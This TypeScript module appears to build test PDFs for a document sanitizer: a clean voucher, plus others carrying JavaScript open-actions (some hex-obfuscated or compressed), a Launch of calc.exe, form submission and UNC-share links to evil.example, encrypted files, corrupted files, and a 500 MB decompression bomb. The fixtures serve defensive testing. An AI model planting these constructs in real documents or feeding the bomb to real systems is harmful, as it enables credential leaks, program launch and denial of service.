// PDFs as another program makes them: qpdf writes and compresses them, poppler attaches, Chromium prints.
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

function inFolder<T>(work: (folder: string) => T): T {
  const folder = mkdtempSync(join(tmpdir(), 'expogate-voucher-'))
  try {
    return work(folder)
  } finally {
    rmSync(folder, { recursive: true })
  }
}

function run(program: string, words: string[]): void {
  const done = spawnSync(program, words, { encoding: 'utf8' })
  // qpdf answers 3 where it had to mend what was drafted here by hand.
  if (done.status !== 0 && !(program === 'qpdf' && done.status === 3)) throw new Error(`${program}: ${done.stderr}`)
}

/** A page with words on it, and what else the catalog, the page and further objects hold. */
function draft(catalog = '', page = '', objects: string[] = []): string {
  const words = 'BT /F1 18 Tf 60 700 Td (Remittance 12000.00) Tj ET'
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
  ]
  return `%PDF-1.7\n${all.map((object, i) => `${i + 1} 0 obj\n${object}\nendobj`).join('\n')}\ntrailer << /Root 1 0 R /Size ${all.length + 1} >>\n%%EOF\n`
}

/** Written anew by qpdf, whose objects are then readable as text or packed into compressed streams. */
export function written(text: string, ...options: string[]): Buffer {
  return inFolder((folder) => {
    const [from, to] = [join(folder, 'draft.pdf'), join(folder, 'voucher.pdf')]
    writeFileSync(from, text)
    run('qpdf', [...options, from, to])
    return readFileSync(to)
  })
}
const packed = '--object-streams=generate'

export const goodVoucher = () => written(draft('/OpenAction [3 0 R /Fit]'))

/** A page as Chromium prints it, with marks for readers with screen readers in it. */
export function printed(html: string): Buffer {
  return inFolder((folder) => {
    writeFileSync(join(folder, 'page.html'), `<!doctype html><html lang="zh"><meta charset="utf-8"><title>x</title>${html}`)
    const browser = process.env.CHROME_PATH ?? '/usr/bin/chromium-headless-shell'
    run(browser, ['--no-sandbox', '--disable-gpu', `--print-to-pdf=${join(folder, 'page.pdf')}`, `file://${join(folder, 'page.html')}`])
    return readFileSync(join(folder, 'page.pdf'))
  })
}

export const activeVouchers: Record<string, () => Buffer> = {
  'a script at opening': () => written(draft('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>')),
  'a script in a compressed object': () => written(draft('/OpenAction 6 0 R', '', ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>']), packed),
  'a script under a name in hexadecimal': () => written(draft('/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>')),
  'a script among the names': () => written(draft('/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', '', ['<< /S /JavaScript /JS 7 0 R >>', '<< /Length 12 >>\nstream\napp.alert(1)\nendstream']), packed),
  'a program to start': () => written(draft('', '/Annots [6 0 R]', ['<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (calc.exe) >> >>']), packed),
  'an action when the page is left': () => written(draft('', '/AA << /C << /S /Named /N /Print >> >>')),
  'a link to elsewhere': () => written(draft('', '/Annots [6 0 R]', ['<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example) >> >>']), packed),
  'a link, printed by Chromium': () => printed('<a href="https://evil.example">here</a>'),
  'a form of XFA': () => written(draft('/AcroForm << /Fields [] /XFA 6 0 R >>', '', ['<< /Length 5 >>\nstream\n<xdp>\nendstream']), packed),
  'a form that sends itself': () => written(draft('', '/Annots [6 0 R]', ['<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>'])),
  'another document to open': () => written(draft('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>')),
  'a film': () => written(draft('', '/Annots [6 0 R]', ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>']), packed),
  'an attachment, by qpdf': () => inFolder((folder) => {
    writeFileSync(join(folder, 'note.txt'), 'x')
    return written(draft(), '--add-attachment', join(folder, 'note.txt'), '--')
  }),
  'an attachment, by poppler': () => inFolder((folder) => {
    writeFileSync(join(folder, 'note.txt'), 'x')
    writeFileSync(join(folder, 'good.pdf'), goodVoucher())
    run('pdfattach', [join(folder, 'good.pdf'), join(folder, 'note.txt'), join(folder, 'attached.pdf')])
    return readFileSync(join(folder, 'attached.pdf'))
  }),
}

export const lockedVouchers: Record<string, () => Buffer> = {
  'with a password': () => written(draft(), '--encrypt', 'open', 'own', '256', '--'),
  'with restrictions only': () => written(draft(), '--encrypt', '', 'own', '256', '--print=none', '--'),
}

/** What a viewer would have to mend, each in another way. */
export const brokenVouchers: Record<string, () => Buffer> = {
  'nothing but a head': () => Buffer.from('%PDF-1.7\n%%EOF\n'),
  'the end cut off': () => goodVoucher().subarray(0, -200),
  'objects without a table': () => Buffer.from(draft('/OpenAction << /S /JavaScript /JS (1) >>')),
  'bytes by chance': () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000, 0xa7)]),
}

/** Few bytes that are many: 500 MB of blanks in two layers of compression, where a table of objects should be. */
export function bomb(): Buffer {
  return inFolder((folder) => {
    const script = `
import zlib, sys
inner = b' ' * 500_000_000
packed = zlib.compress(zlib.compress(inner, 9), 9)
out = b'%PDF-1.7\\n'
at = len(out)
out += b'1 0 obj\\n<< /Type /XRef /Size 2 /W [1 2 1] /Filter [/FlateDecode /FlateDecode] /Root 1 0 R /Length ' + str(len(packed)).encode() + b' >>\\nstream\\n' + packed + b'\\nendstream\\nendobj\\n'
out += b'startxref\\n' + str(at).encode() + b'\\n%%EOF\\n'
open(sys.argv[1], 'wb').write(out)`
    run('python3', ['-c', script, join(folder, 'bomb.pdf')])
    return readFileSync(join(folder, 'bomb.pdf'))
  })
}
